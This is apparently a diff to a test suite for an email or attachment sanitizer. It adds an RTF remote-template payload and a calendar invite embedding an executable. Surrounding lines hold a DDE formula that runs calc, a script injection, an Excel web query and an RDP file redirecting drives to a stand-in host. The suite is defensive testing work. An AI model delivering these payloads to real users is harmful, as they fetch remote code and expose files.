@@ -18,7 +18,8 @@ DESCRIPTION
       script an HTML <script> element (a browser runs it when the file
              or attachment is opened by its name),
       formula a spreadsheet formula line (DDE) of a CSV,
-      iqy    an Excel web query (fetches and opens a URL).
+      iqy    an Excel web query (fetches and opens a URL),
+      rtf_template  an RTF remote template reference.
     Expectations (comma separated, all must hold; "payload absent" and "no
     crash" always apply):
       undelivered        exit 2 or 3 (nothing forwarded)
@@ -37,8 +38,9 @@ pe = clam[:-1] + bytes([clam[-1] ^ 0x55])
 SCRIPT = b"<script>alert(document.domain)</script>"
 FORMULA = b"\n=cmd|'/C calc'!A0\n"
 IQY = b"WEB\r\n1\r\nhttp://198.51.100.7/q.html\r\n"
+RTF_TEMPLATE = b"{\\*\\template http://198.51.100.7/t.dotm}"
 PAYLOADS = {"clam": clam, "pe": pe, "eicar": EICAR, "script": SCRIPT,
-            "formula": FORMULA, "iqy": IQY}
+            "formula": FORMULA, "iqy": IQY, "rtf_template": RTF_TEMPLATE}
 # File cases are named NAME.bin unless listed here (the name is what a
 # recipient's browser or viewer goes by).
 FILE_EXT = {"padded_html_file": "html", "late_svg_file": "svg",
@@ -303,6 +305,16 @@ CASES = [
     ("rdp_attachment", "iqy", "mail", "code=executable",
      lambda p: mail("rdp", simple(b"full address:s:198.51.100.7\r\ndrivestoredirect:s:*\r\n" + p,
                                   "connect.rdp", "application/x-rdp"))),
+    # RTF is a text type to libmagic: it must still be sanitized (remote
+    # template), and a calendar invitation must not carry a file
+    ("rtf_remote_template", "rtf_template", "mail", "verdict=cleaned|stripped|quarantined",
+     lambda p: mail("rtf", simple(b"{\\rtf1\\ansi" + p + b" hello}", "minutes.rtf",
+                                  "application/rtf"))),
+    ("ics_inline_exe", "pe", "mail", "verdict=cleaned|stripped|quarantined",
+     lambda p: mail("invite", simple(("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\n"
+        "SUMMARY:meeting\r\nATTACH;ENCODING=BASE64;VALUE=BINARY;X-FILENAME=agenda.exe:" +
+        base64.b64encode(p).decode() + "\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n").encode(),
+        "invite.ics", "text/calendar"))),
     ("iqy_attachment", "iqy", "mail", "code=executable",
      lambda p: mail("web query", simple(p, "report.iqy", "text/plain"))),
 ]
